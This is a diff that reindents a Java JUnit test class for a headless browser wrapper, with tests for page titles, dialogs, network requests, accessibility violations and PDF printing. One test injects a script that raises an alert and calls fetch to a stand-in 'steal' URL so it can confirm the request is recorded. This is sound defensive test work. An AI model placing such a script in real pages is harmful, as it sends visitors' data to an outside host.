@@ -17,65 +17,65 @@ import org.junit.jupiter.api.io.TempDir;
 @Tag("browser")
 class BrowserTest {
 
-    private static Browser browser;
+	private static Browser browser;
 
-    @TempDir
-    Path folder;
+	@TempDir
+	Path folder;
 
-    @BeforeAll
-    static void open() {
-        browser = Browser.open();
-    }
+	@BeforeAll
+	static void open() {
+		browser = Browser.open();
+	}
 
-    @AfterAll
-    static void close() {
-        browser.close();
-    }
+	@AfterAll
+	static void close() {
+		browser.close();
+	}
 
-    @Test
-    void seesAQuietPage() throws IOException {
-        Look look = browser.look(Visit.to(page("<main><h1>Onboarding</h1></main>")).checkAccessibility().evaluate("document.querySelector('h1').textContent"));
+	@Test
+	void seesAQuietPage() throws IOException {
+		Look look = browser.look(Visit.to(page("<main><h1>Onboarding</h1></main>")).checkAccessibility().evaluate("document.querySelector('h1').textContent"));
 
-        assertThat(look.title()).isEqualTo("A page");
-        assertThat(look.value().getAsString()).isEqualTo("Onboarding");
-        assertThat(look.dialogs()).isEmpty();
-        assertThat(look.errors()).isEmpty();
-        assertThat(look.requests()).isEmpty();
-        assertThat(look.violations()).isEmpty();
-    }
+		assertThat(look.title()).isEqualTo("A page");
+		assertThat(look.value().getAsString()).isEqualTo("Onboarding");
+		assertThat(look.dialogs()).isEmpty();
+		assertThat(look.errors()).isEmpty();
+		assertThat(look.requests()).isEmpty();
+		assertThat(look.violations()).isEmpty();
+	}
 
-    @Test
-    void seesAHostileScript() throws IOException {
-        Look look = browser.look(Visit.to(page("<script>alert('mine now'); fetch('https://journey.example/steal')</script>")));
+	@Test
+	void seesAHostileScript() throws IOException {
+		Look look = browser.look(Visit.to(page("<script>alert('mine now'); fetch('https://journey.example/steal')</script>")));
 
-        assertThat(look.dialogs()).containsExactly("alert: mine now");
-        assertThat(look.requests()).containsExactly("https://journey.example/steal");
-        assertThat(look.errors()).isNotEmpty();
-    }
+		assertThat(look.dialogs()).containsExactly("alert: mine now");
+		assertThat(look.requests()).containsExactly("https://journey.example/steal");
+		assertThat(look.errors()).isNotEmpty();
+	}
 
-    @Test
-    void runsNoScriptForAReaderWhoSwitchedThemOff() throws IOException {
-        assertThat(browser.look(Visit.to(page("<script>alert(1)</script>")).withoutScripts()).dialogs()).isEmpty();
-    }
+	@Test
+	void runsNoScriptForAReaderWhoSwitchedThemOff() throws IOException {
+		assertThat(browser.look(Visit.to(page("<script>alert(1)</script>")).withoutScripts()).dialogs()).isEmpty();
+	}
 
-    @Test
-    void seesABarrier() throws IOException {
-        Look look = browser.look(Visit.to(page("<main><h1>Map</h1><img src='data:,'></main>")).checkAccessibility());
+	@Test
+	void seesABarrier() throws IOException {
+		Look look = browser.look(Visit.to(page("<main><h1>Map</h1><img src='data:,'></main>")).checkAccessibility());
 
-        assertThat(look.violations()).extracting(Violation::id).containsExactly("image-alt");
-    }
+		assertThat(look.violations()).extracting(Violation::id).containsExactly("image-alt");
+	}
 
-    @Test
-    void printsOnThePaperOfThePage() throws IOException {
-        Path wide = page("<style>@page { size: A3 landscape }</style><p>1</p><p style='break-before: page'>2</p>");
-        Look look = browser.look(Visit.to(wide).print(folder.resolve("page.pdf")).screenshot(folder.resolve("page.png")));
+	@Test
+	void printsOnThePaperOfThePage() throws IOException {
+		Path wide = page("<style>@page { size: A3 landscape }</style><p>1</p><p style='break-before: page'>2</p>");
+		Look look = browser.look(Visit.to(wide).print(folder.resolve("page.pdf")).screenshot(folder.resolve("page.png")));
 
-        assertThat(look.sheets()).containsExactly(new Sheet(420, 297), new Sheet(420, 297));
-        assertThat(folder.resolve("page.pdf")).isNotEmptyFile();
-        assertThat(folder.resolve("page.png")).isNotEmptyFile();
-    }
+		assertThat(look.sheets()).containsExactly(new Sheet(420, 297), new Sheet(420, 297));
+		assertThat(folder.resolve("page.pdf")).isNotEmptyFile();
+		assertThat(folder.resolve("page.png")).isNotEmptyFile();
+	}
 
-    private Path page(String body) throws IOException {
-        return Files.writeString(folder.resolve("page.html"), "<!doctype html><html lang=en><meta charset=utf-8><title>A page</title>" + body);
-    }
+	private Path page(String body) throws IOException {
+		return Files.writeString(folder.resolve("page.html"), "<!doctype html><html lang=en><meta charset=utf-8><title>A page</title>" + body);
+	}
 }
